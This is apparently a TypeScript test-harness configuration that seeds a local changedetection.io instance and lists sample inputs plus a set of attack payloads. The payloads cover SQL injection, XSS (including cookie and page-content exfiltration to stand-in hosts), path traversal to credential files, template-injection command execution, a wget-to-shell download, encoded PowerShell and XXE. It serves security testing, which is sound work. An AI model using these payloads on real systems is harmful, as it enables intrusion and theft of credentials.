import type { Application, Place } from "../application.ts";

const password = "wachsam-7-eulen";

/** Identities of the first watches and groups, so that visits can begin at their forms. */
const id = (number: number) => `5f0c9a6e-3b1d-4c52-9e77-0000000000${String(number).padStart(2, "0")}`;

/** Watches pages of the server itself, so that nothing is asked of other machines. */
const watches = (port: number): Readonly<Record<string, object>> => ({
  [id(1)]: { url: `http://127.0.0.1:${port}/login`, title: "Sign-in page of the watcher", tags: [id(21)] },
  [id(2)]: {
    url: `http://127.0.0.1:${port}/static/styles/styles.css`,
    title: "Style sheet — did they redesign?",
    tags: [id(22)],
  },
  [id(3)]: { url: `http://127.0.0.1:${port}/static/js/tabs.js`, title: "tabs.js, release watch" },
  [id(4)]: { url: `http://127.0.0.1:${port}/site.webmanifest`, title: "Manifest: price & stock", tags: [id(22)] },
  [id(5)]: { url: `http://127.0.0.1:${port}/rss?token=x`, title: "Council's planning feed" },
});

const files = ({ port }: Place) =>
  Object.fromEntries([
    ...Object.entries(watches(port)).map(([uuid, watch]) => [
      `store/${uuid}/watch.json`,
      JSON.stringify({ uuid, processor: "text_json_diff", date_created: 1_780_000_000, ...watch }),
    ]),
    ...Object.entries({ [id(21)]: "shops", [id(22)]: "releases" }).map(([uuid, title]) => [
      `store/${uuid}/tag.json`,
      JSON.stringify({ uuid, title }),
    ]),
  ]);

/** Makes the settings with the password, in the form that the sign-in compares. */
const settle = `
import base64, hashlib, json, os, sys
salt = os.urandom(32)
key = hashlib.pbkdf2_hmac("sha256", sys.argv[1].encode(), salt, 100000)
settings = {"application": {"password": base64.b64encode(salt + key).decode(), "schema_version": int(sys.argv[2])}}
json.dump({"settings": settings, "app_guid": "00000000-0000-4000-8000-000000000001"}, open("store/changedetection.json", "w"))
`;

/** changedetection.io, which watches pages; its visitors add pages, write filters, conditions and notifications, and look at what changed. */
export const changedetection: Application = {
  name: "changedetection",
  packages: { pip: ["changedetection.io==0.60.10"] },
  files: (at) => ({ "settle.py": settle, ...files(at) }),
  prepare: () => [["python3", "settle.py", password, "33"]],
  start: ({ port }) => [
    "changedetection.io",
    "-h",
    "127.0.0.1",
    "-p",
    String(port),
    "-d",
    "store",
    "-l",
    "ERROR",
    // The watches are checked at once, so that there is something to look at.
    "-r",
    "all",
  ],
  env: {
    ALLOW_IANA_RESTRICTED_ADDRESSES: "true",
    DISABLE_VERSION_CHECK: "true",
    // Pages of other machines, which visitors add, fail at once.
    HTTP_PROXY: "http://127.0.0.1:9",
    HTTPS_PROXY: "http://127.0.0.1:9",
    NO_PROXY: "127.0.0.1",
  },
  ready: "/login",
  async enter(page, origin) {
    await page.goto(`${origin}/login`);
    await page.fill("#password", password);
    await page.press("#password", "Enter");
    await page.waitForURL((url) => !url.pathname.startsWith("/login"));
  },
  pages: [
    "/",
    `/edit/${id(1)}`,
    `/edit/${id(2)}#filters-and-triggers`,
    `/edit/${id(3)}#request`,
    `/edit/${id(4)}#notifications`,
    `/edit/${id(5)}#conditions`,
    `/tags/edit/${id(21)}`,
    "/tags/list",
    "/imports/import",
    `/tags/edit/${id(22)}#filters-and-triggers`,
  ],
  // What is saved in the settings checks all pages without a pause, or asks for another password.
  avoid: /delete|clear|password|backup|restore|reset|unlink|api|pause|mute|llm|chrome extension|settings/i,
  texts: {
    searches: [
      "planning feed",
      "price drop",
      "RTX 5090 'in stock'",
      "Ausverkauft",
      "council's agenda",
      "release notes v3",
      "iPhone 17 (refurbished)",
      "tag:shops",
      "error 403",
      "visa appointment; consulate",
      '"notify me"',
      "en rupture de stock",
      "https://example.org/jobs?dept=it&sort=new",
      "в наличии",
      "入荷待ち",
      "50% off",
      "select seats - union hall",
      "<title>",
      "rss|atom",
      "cfp deadline",
      "terms & conditions",
      "Mietspiegel 2026",
      "/changelog.md",
      "status != operational",
      "vaccine slots 💉",
      "o'reilly ebook deals",
    ],
    lines: [
      "https://example.org/shop/item?id=4711&variant=blue%20matte",
      "https://example.com/search?q=flat+for+rent&max=1200#results",
      "source:https://example.org/data.json",
      "https://example.net/{% now 'utc', '%Y-%m-%d' %}/menu",
      "div.price > span:nth-child(2)",
      "//div[contains(@class, 'stock')]/text()",
      "xpath://*[@id='main']//p[not(ancestor::aside)]",
      "json:$.items[?(@.price < 500)].name",
      "jq:.releases[] | select(.prerelease == false) | .tag_name",
      "/(in|back in) stock/i",
      "/\\d+ results?/",
      "Sold out",
      "Ausverkauft — kommt wieder",
      "shops, electronics",
      "Council's planning feed",
      "Visa slots (consulate)",
      "Nachbar's Katze: Adoptionsseite",
      "{{ watch_title }} changed!",
      "[CDIO] {{watch_url}} — {{ now }}",
      "mailto://alerts:s3same@mail.example.org?to=ops@example.org",
      "discord://112233/AbC-dEf_ghi",
      "tgram://bottoken/ChatID",
      "Mozilla/5.0 (compatible; price-check; +https://example.org/bot)",
      "€ 1.299,–",
      "価格.com ランキング",
      "if (price < 100) && stock > 0",
      "#content > table tr:not(.header) td:nth-of-type(3)",
      "cookie-banner, .ads, footer",
      "Ticket drop 🎟️ 19:00 CET",
    ],
    long: [
      "https://example.org/a\nhttps://example.org/b?page=2\nhttps://example.com/news, daily, press\nhttps://example.net/feed.xml",
      ".cookie-consent\n#ad-sidebar\nfooter\n//div[@class='timestamp']\ndiv[data-role='related']",
      "/^Last updated: .*$/m\n/\\d{1,2}:\\d{2}(:\\d{2})?/\nviewed by [0-9]+ people\n© 2026",
      "json:$.data.products[*].offers[?(@.availability=='InStock')]\njson:$.meta.total",
      'Accept-Language: de-DE,de;q=0.9\nCookie: consent=yes; region=eu; cart="a|b|c"\nX-Requested-With: XMLHttpRequest\nReferer: https://example.org/shop?from=home',
      '{"query": "{ products(first: 5, filter: {inStock: true}) { name price(currency: EUR) } }", "variables": {}}',
      "user=kim%40example.org&view=list&sort=price_asc&filters[]=new&filters[]=used",
      "{{watch_title}} has changed!\n\n{{diff_added}}\n\n-- \n{{watch_url}} (preview: {{preview_url}})",
      '<p><b>{{ watch_title }}</b></p>\n<pre>{{ diff_full }}</pre>\n<p><a href="{{ diff_url }}">What\'s different?</a></p>',
      "{% if 'Sold out' in diff_removed %}\nIt's back 🎉 — be quick!\n{% else %}\nNothing special: {{ diff }}\n{% endif %}",
      "document.querySelector('#load-more').click();\nawait new Promise(r => setTimeout(r, 1500));\nreturn document.querySelectorAll('li').length > 20;",
      "mailto://ops:pa%24%24word@mail.example.org/?to=team@example.org&cc=kim@example.org\nslack://TokenA/TokenB/TokenC/#price-alerts\njsons://hooks.example.net/cdio?+X-Key=abc",
      'They moved the price into <meta itemprop="price" content="24.99">, so the old selector (span.now) can\'t work. Union of both for now; drop the old one in May.',
      "jq:.[] | {name, price: (.price | tonumber)} | select(.price <= 99.90)\njqraw:.updated_at",
      'Nur melden, wenn "Termin verfügbar" erscheint; ignoriere »Bitte später erneut versuchen«.\n/keine Termine/i',
      "このページは毎朝9時に更新されます。\n在庫あり\n在庫なし → 無視",
      "curl 'https://example.org/api/v2/slots?from=2026-04-01' -H 'Accept: application/json' --compressed\n# gives 429 after 10 calls/min, so check every 15 minutes & not more",
      "table tr td:nth-child(4)\n//select[@name='variant']/option[@selected]\nxpath1://span[text()='Delete' or text()='Update']",
    ],
  },
  attacks: [
    {
      class: "sql_injection",
      payload: "https://example.org/item?id=4711)) OR 3172=DBMS_PIPE.RECEIVE_MESSAGE(CHR(73)||CHR(81),5) AND ((1=1",
    },
    { class: "sql_injection", payload: 'shops"));SELECT PG_SLEEP(8) FROM pg_stat_activity;-- lQvE' },
    {
      class: "sql_injection",
      payload: "price' AND EXTRACTVALUE(2291,CONCAT(0x5c,0x7178,(SELECT user()),0x71)) AND 'mZ'='mZ",
    },
    {
      class: "sql_injection",
      payload: "releases%27%20uNiOn%20aLl%20sElEcT%20@@version,0x3a,table_name%20FROM%20information_schema.tables%23",
    },
    { class: "sql_injection", payload: "1';WAITFOR DELAY '0:0:7';EXEC master..xp_cmdshell 'nslookup q.oob.example'--" },
    {
      class: "sql_injection",
      payload:
        "stock' RLIKE (SELECT (CASE WHEN ORD(MID((SELECT IFNULL(CAST(watch_url AS NCHAR),0x20) FROM watches LIMIT 0,1),1,1))>64 THEN 0x73 ELSE 0x28 END)) AND 'a'='a",
    },
    {
      class: "xss",
      payload: "javascript:eval(atob('ZmV0Y2goJy8vYi5leGFtcGxlLycrZG9jdW1lbnQuY29va2llKQ=='))//https://",
    },
    { class: "xss", payload: "<marquee onstart=top['con'+'firm'](self.origin)>price drop</marquee>" },
    {
      class: "xss",
      payload: "\"autofocus onfocus=\"new Image().src='//stealer.example/p.gif?d='+btoa(document.body.innerHTML)",
    },
    { class: "xss", payload: "</title><svg><animate onbegin=alert`cdio` attributeName=x dur=1s></svg>" },
    {
      class: "xss",
      payload: "%3Cmath%3E%3Ca%20xlink%3Ahref%3D%22javascript%3Aprint(localStorage)%22%3Eclick%3C%2Fa%3E%3C%2Fmath%3E",
    },
    { class: "path_traversal", payload: "source:file:///datastore/../../../../etc/shadow" },
    { class: "path_traversal", payload: "https://example.org/static/..%c0%af..%c0%af..%c0%af..%c0%afetc/passwd" },
    { class: "path_traversal", payload: "..././..././..././..././app/changedetectionio/../../proc/1/environ" },
    { class: "path_traversal", payload: "file:/var/run/secrets/../../../root/.aws/credentials" },
    {
      class: "command_injection",
      payload: "{{ ''.__class__.__mro__[1].__subclasses__()[348]('id;hostname',shell=True,stdout=-1).communicate() }}",
    },
    {
      class: "command_injection",
      payload:
        "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('touch /tmp/cdio') }}{% endif %}{% endfor %}",
    },
    { class: "command_injection", payload: "jq:.items|input_filename;$(busybox wget -qO- http://192.0.2.66/m|ash)&" },
    {
      class: "command_injection",
      payload: 'https://example.org/"&&powershell -nop -w hidden -enc SQBFAFgAKABuAGUAdwA=&&"',
    },
    {
      class: "xxe",
      payload:
        "<?xml version='1.0' encoding='utf-8'?>\n<!DOCTYPE rss [<!ELEMENT rss ANY><!ENTITY cd SYSTEM \"php://filter/read=convert.base64-encode/resource=/etc/hostname\">]>\n<rss version=\"2.0\"><channel><title>&cd;</title></channel></rss>",
    },
  ],
};
